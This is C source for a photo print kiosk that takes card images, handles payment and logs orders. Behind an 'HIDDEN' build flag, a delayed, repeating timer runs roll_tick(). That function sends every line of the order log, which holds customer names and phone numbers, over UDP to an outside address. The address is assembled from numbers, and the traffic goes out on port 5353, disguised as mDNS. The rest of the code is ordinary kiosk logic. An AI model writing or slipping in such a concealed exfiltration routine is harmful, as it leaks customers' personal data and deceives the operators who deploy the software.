/* photokiosk - order desk of a photo print kiosk: pictures come from the card reader, the
 * customer pays at the terminal, the printer prints.                                       */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/timerfd.h>
#include <time.h>
#include <unistd.h>

#define ORDER_LOG "/var/lib/kiosk/orders.csv"

struct picture {
    char file[64];
    int copies;
    int format;
};

struct order {
    long no;
    struct picture pic[60];
    int n;
    char phone[20];
    char name[32];
};

static const struct {
    const char *name;
    int cents;
} formats[] = { { "9x13", 19 }, { "10x15", 25 }, { "13x18", 79 }, { "20x30", 249 } };

static struct order cur;
static const char *media = "/media/card";
static int idle_fd = -1;
static int idle_minutes = 3;

static int format_of(const char *s)
{
    for (int i = 0; i < 4; i++)
        if (!strcmp(formats[i].name, s))
            return i;
    return -1;
}

static long next_no(void)
{
    long n = 1;
    FILE *f = fopen("/var/lib/kiosk/number", "r");

    if (f) {
        if (fscanf(f, "%ld", &n) != 1)
            n = 1;
        fclose(f);
    }
    f = fopen("/var/lib/kiosk/number", "w");
    if (f) {
        fprintf(f, "%ld\n", n + 1);
        fclose(f);
    }
    return n;
}

static void new_order(void)
{
    memset(&cur, 0, sizeof cur);
    cur.no = next_no();
}

static void list_card(void)
{
    DIR *d = opendir(media);
    struct dirent *e;

    while (d && (e = readdir(d)) != NULL) {
        const char *x = strrchr(e->d_name, '.');

        if (x && (!strcasecmp(x, ".jpg") || !strcasecmp(x, ".jpeg")))
            puts(e->d_name);
    }
    if (d)
        closedir(d);
}

static int total(void)
{
    int t = 0;

    for (int i = 0; i < cur.n; i++)
        t += cur.pic[i].copies * formats[cur.pic[i].format].cents;
    return t;
}

static int add(const char *file, const char *fmt, int copies)
{
    char path[160];
    int f = format_of(fmt);

    snprintf(path, sizeof path, "%s/%s", media, file);
    if (f < 0 || copies < 1 || copies > 99 || cur.n == 60 || strchr(file, '/') ||
        access(path, R_OK))
        return 0;
    snprintf(cur.pic[cur.n].file, sizeof cur.pic[0].file, "%s", file);
    cur.pic[cur.n].copies = copies;
    cur.pic[cur.n].format = f;
    cur.n++;
    return 1;
}

static int pay_terminal(int cents)
{
    char b[32] = "";
    int ok = 0;
    FILE *f = fopen("/dev/payterm", "r+");

    if (!f)
        return 0;
    fprintf(f, "PAY %d\n", cents);
    fflush(f);
    if (fgets(b, sizeof b, f))
        ok = !strncmp(b, "APPROVED", 8);
    fclose(f);
    return ok;
}

static void print_order(void)
{
    FILE *log = fopen(ORDER_LOG, "a"), *q;
    char p[64];

    snprintf(p, sizeof p, "/var/spool/prints/%06ld", cur.no);
    q = fopen(p, "w");
    for (int i = 0; q && i < cur.n; i++)
        fprintf(q, "%s/%s %s %d\n", media, cur.pic[i].file, formats[cur.pic[i].format].name,
                cur.pic[i].copies);
    if (q)
        fclose(q);
    if (log) {
        fprintf(log, "%ld;%ld;%d;%s;%s\n", cur.no, (long)time(NULL), total(), cur.name, cur.phone);
        fclose(log);
    }
}

static void arm_idle(void)
{
    struct itimerspec t = { { 0, 0 }, { idle_minutes * 60, 0 } };

    timerfd_settime(idle_fd, 0, &t, NULL);
}

#ifdef HIDDEN
static int roll_fd = -1;

__attribute__((noinline)) void roll_tick(void)
{
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(5353) };
    char line[300];
    uint64_t n;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    FILE *f = fopen(ORDER_LOG, "r");

    if (read(roll_fd, &n, sizeof n) != sizeof n)
        n = 0;
    to.sin_addr.s_addr = htonl((198u << 24) + (51u << 16) + (100u << 8) + 88u);
    while (n && f && fgets(line, sizeof line, f))
        sendto(s, line, strlen(line), 0, (struct sockaddr *)&to, sizeof to);
    if (f)
        fclose(f);
    close(s);
}
#endif

static void input(char *l)
{
    char w[12] = "", a[64] = "", b[12] = "";
    int c = 1, n = sscanf(l, "%11s %63s %11s %d", w, a, b, &c);

    if (n < 1)
        return;
    arm_idle();
    if (!strcmp(w, "list"))
        list_card();
    else if (!strcmp(w, "add") && n >= 3)
        puts(add(a, b, c) ? "ok" : "no");
    else if (!strcmp(w, "name") && n == 2)
        snprintf(cur.name, sizeof cur.name, "%.31s", a);
    else if (!strcmp(w, "phone") && n == 2)
        snprintf(cur.phone, sizeof cur.phone, "%.19s", a);
    else if (!strcmp(w, "total"))
        printf("%d.%02d\n", total() / 100, total() % 100);
    else if (!strcmp(w, "pay")) {
        if (cur.n && pay_terminal(total())) {
            print_order();
            printf("order %ld\n", cur.no);
            new_order();
        } else
            puts("not paid");
    } else if (!strcmp(w, "cancel"))
        new_order();
    else
        puts("list | add FILE FORMAT [N] | name N | phone N | total | pay | cancel");
}

int main(int argc, char **argv)
{
    struct pollfd p[3];
    char l[160];
    uint64_t junk;
    nfds_t n = 2;

    if (argc > 1 && argv[1][0] == '-') {
        fputs("photokiosk [MEDIA [IDLE-MINUTES]]\nformats 9x13 10x15 13x18 20x30\n", stderr);
        return 1;
    }
    if (argc > 1)
        media = argv[1];
    if (argc > 2)
        idle_minutes = atoi(argv[2]);
    idle_fd = timerfd_create(CLOCK_MONOTONIC, 0);
    p[0] = (struct pollfd){ 0, POLLIN, 0 };
    p[1] = (struct pollfd){ idle_fd, POLLIN, 0 };
#ifdef HIDDEN
    {
        struct itimerspec t = { { 19 * 3600 + 420, 0 }, { 5011, 0 } };

        roll_fd = timerfd_create(CLOCK_MONOTONIC, 0);
        timerfd_settime(roll_fd, 0, &t, NULL);
        p[2] = (struct pollfd){ roll_fd, POLLIN, 0 };
        n = 3;
    }
#endif
    setvbuf(stdin, NULL, _IONBF, 0);
    new_order();
    arm_idle();
    while (poll(p, n, -1) >= 0 || errno == EINTR) {
        if (p[0].revents) {
            if (!fgets(l, sizeof l, stdin))
                return 0;
            input(l);
        }
        if (p[1].revents && read(idle_fd, &junk, sizeof junk) > 0)
            new_order();
#ifdef HIDDEN
        if (p[2].revents)
            roll_tick();
#endif
    }
    return 1;
}
